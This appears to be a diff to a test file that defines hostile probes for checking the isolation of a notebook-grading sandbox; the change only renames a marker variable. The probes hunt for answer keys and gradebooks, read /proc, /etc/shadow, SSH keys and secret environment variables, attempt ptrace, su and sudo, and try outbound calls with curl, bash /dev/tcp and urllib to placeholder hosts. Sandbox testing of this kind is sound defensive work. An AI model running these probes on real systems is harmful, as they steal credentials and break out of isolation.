@@ -7,7 +7,7 @@ from __future__ import annotations
 from tests.attacks.hostile.attack import code
 
 READ, WRITE, SEND = "reading keys, peers, environment", "writing gradebook or configuration", "exfiltration"
-_LEAK = '"LE" + "AK"'
+LEAK_WORD = '"LE" + "AK"'
 _WALK = f"""
 import os
 links = None
@@ -17,11 +17,11 @@ def search(root, names, words):
             folders[:] = []; continue  # nbgrader's own files hold the words
         for name in files:
             path = os.path.join(folder, name)
-            if any(one in name for one in names): print({_LEAK}, path)
+            if any(one in name for one in names): print({LEAK_WORD}, path)
             elif os.path.isfile(path) and os.path.getsize(path) < 10**6 and name.endswith((".json", ".ipynb", ".py", ".toml", ".db")):
                 try: text = open(path, errors="replace").read()
                 except OSError: continue
-                if any(one in text for one in words): print({_LEAK}, path)
+                if any(one in text for one in words): print({LEAK_WORD}, path)
 """
 READING = (
     code(
@@ -35,14 +35,14 @@ READING = (
         "climbs out of the day's folder",
         _WALK + f"for up in ('..', '../..', '../../..', '../../../..', '../../../../..'):\n"
         f"    for name in os.listdir(up):\n        if name in ('sealed', 'submitted', 'source', 'gradebook.db'):"
-        f" print({_LEAK}, up, name)",
+        f" print({LEAK_WORD}, up, name)",
     ),
     code(
         READ,
         "imports the judge and the truth",
         "links = None\nfor name in ('grading.judge', 'grading.keys.store',"
         " 'synthetic_data.truth', 'classroom.workspace', 'curriculum'):\n    try:\n        __import__(name)\n"
-        f"        print({_LEAK}, name)\n    except ImportError: pass",
+        f"        print({LEAK_WORD}, name)\n    except ImportError: pass",
     ),
     code(
         READ,
@@ -50,39 +50,39 @@ READING = (
         "import os\nlinks = None\nfor entry in os.listdir('/proc'):\n    if not entry.isdigit() or int(entry) == os.getpid():"
         " continue\n    for part in ('environ', 'cmdline', 'maps', 'mem', 'fd/3', 'root/etc/shadow'):\n"
         "        try: text = open(f'/proc/{entry}/{part}', 'rb').read(100000)\n        except OSError: continue\n"
-        f"        if b'submitted' in text or b'sealed' in text or b'TOKEN' in text: print({_LEAK}, entry, part)",
+        f"        if b'submitted' in text or b'sealed' in text or b'TOKEN' in text: print({LEAK_WORD}, entry, part)",
     ),
     code(
         READ,
         "the environment",
         "import os\nlinks = None\nfor name, value in os.environ.items():\n"
         "    if 'SECRET' in name or 'TOKEN' in name or 'sealed' in value or 'submitted' in value:"
-        f" print({_LEAK}, name)",
+        f" print({LEAK_WORD}, name)",
     ),
     code(
         READ,
         "the machine's own secrets",
         "import glob\nlinks = None\n"
         "for path in ['/etc/shadow', '/etc/passwd', *glob.glob('/root/.*/*'), *glob.glob('/home/*/.ssh/*')]:\n"
-        f"    try:\n        if len(open(path, 'rb').read(10)): print({_LEAK}, path)\n    except OSError: pass",
+        f"    try:\n        if len(open(path, 'rb').read(10)): print({LEAK_WORD}, path)\n    except OSError: pass",
     ),
     code(
         READ,
         "traces its runner",
         "import ctypes\nlinks = None\nlibc = ctypes.CDLL(None, use_errno=True)\n"
-        f"if libc.ptrace(16, 2, 0, 0) == 0: print({_LEAK})\n"
+        f"if libc.ptrace(16, 2, 0, 0) == 0: print({LEAK_WORD})\n"
         "class Part(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
         "got = ctypes.create_string_buffer(8); here = Part(ctypes.addressof(got), 8); there = Part(0x400000, 8)\n"
-        f"if libc.process_vm_readv(2, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0: print({_LEAK})",
+        f"if libc.process_vm_readv(2, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0: print({LEAK_WORD})",
     ),
     code(
         READ,
         "a name server, a shell and a user of its own",
         "import ctypes, subprocess\nlinks = None\n"
-        f"libc = ctypes.CDLL(None)\nif libc.unshare(0x10000000) == 0: print({_LEAK}, 'namespace')\n"
+        f"libc = ctypes.CDLL(None)\nif libc.unshare(0x10000000) == 0: print({LEAK_WORD}, 'namespace')\n"
         "for words in (['mount', '-t', 'tmpfs', 'x', '/mnt'], ['su', '-c', 'id'], ['sudo', '-n', 'id']):\n"
         "    try:\n        if subprocess.run(words, capture_output=True, timeout=2).returncode == 0:"
-        f" print({_LEAK}, words[0])\n    except (OSError, subprocess.SubprocessError): pass",
+        f" print({LEAK_WORD}, words[0])\n    except (OSError, subprocess.SubprocessError): pass",
     ),
 )
 WRITING = (
@@ -92,9 +92,9 @@ WRITING = (
         "import os\nlinks = None\nfor folder, folders, files in os.walk('/'):\n"
         "    if folder.startswith(('/proc', '/sys', '/home', '/tmp', '/dev')): folders[:] = []; continue\n"
         "    for name in files:\n        if name in ('gradebook.db', 'nbgrader_config.py', 'workspace.toml', 'judge.py'):\n"
-        f"            try:\n                open(os.path.join(folder, name), 'ab').close(); print({_LEAK}, name)\n"
+        f"            try:\n                open(os.path.join(folder, name), 'ab').close(); print({LEAK_WORD}, name)\n"
         "            except OSError: pass\n"
-        f"    try: open(os.path.join(folder, '.hostile'), 'w').close(); print({_LEAK}, folder)\n    except OSError: pass",
+        f"    try: open(os.path.join(folder, '.hostile'), 'w').close(); print({LEAK_WORD}, folder)\n    except OSError: pass",
     ),
     code(
         WRITE,
@@ -123,7 +123,7 @@ for family, place in ((2, ("127.0.0.1", 80)), (2, ("127.0.0.1", 22)), (2, ("192.
     for kind in (1, 2):
         try:
             one = socket.socket(family, kind); one.settimeout(1); one.connect(place)
-            if kind == 1 or one.send(b"x") and family == 1: print({_LEAK}, place)
+            if kind == 1 or one.send(b"x") and family == 1: print({LEAK_WORD}, place)
         except OSError: pass
 """
 SENDING = (
@@ -132,7 +132,7 @@ SENDING = (
         SEND,
         "names",
         "import socket\nlinks = None\ntry:\n    socket.getaddrinfo('key-abc.example.org', 80)\n"
-        f"    print({_LEAK})\nexcept OSError: pass",
+        f"    print({LEAK_WORD})\nexcept OSError: pass",
     ),
     code(
         SEND,
@@ -140,9 +140,9 @@ SENDING = (
         "import subprocess, urllib.request\nlinks = None\n"
         "for words in (['curl', '-m2', 'http://192.0.2.1'], ['ping', '-c1', '-W1', '192.0.2.1'],"
         " ['bash', '-c', 'echo x > /dev/tcp/127.0.0.1/80']):\n    try:\n"
-        f"        if subprocess.run(words, capture_output=True, timeout=3).returncode == 0: print({_LEAK}, words[0])\n"
+        f"        if subprocess.run(words, capture_output=True, timeout=3).returncode == 0: print({LEAK_WORD}, words[0])\n"
         "    except (OSError, subprocess.SubprocessError): pass\n"
-        f"try:\n    urllib.request.urlopen('http://192.0.2.1', timeout=2); print({_LEAK})\nexcept OSError: pass",
+        f"try:\n    urllib.request.urlopen('http://192.0.2.1', timeout=2); print({LEAK_WORD})\nexcept OSError: pass",
     ),
     code(
         SEND,
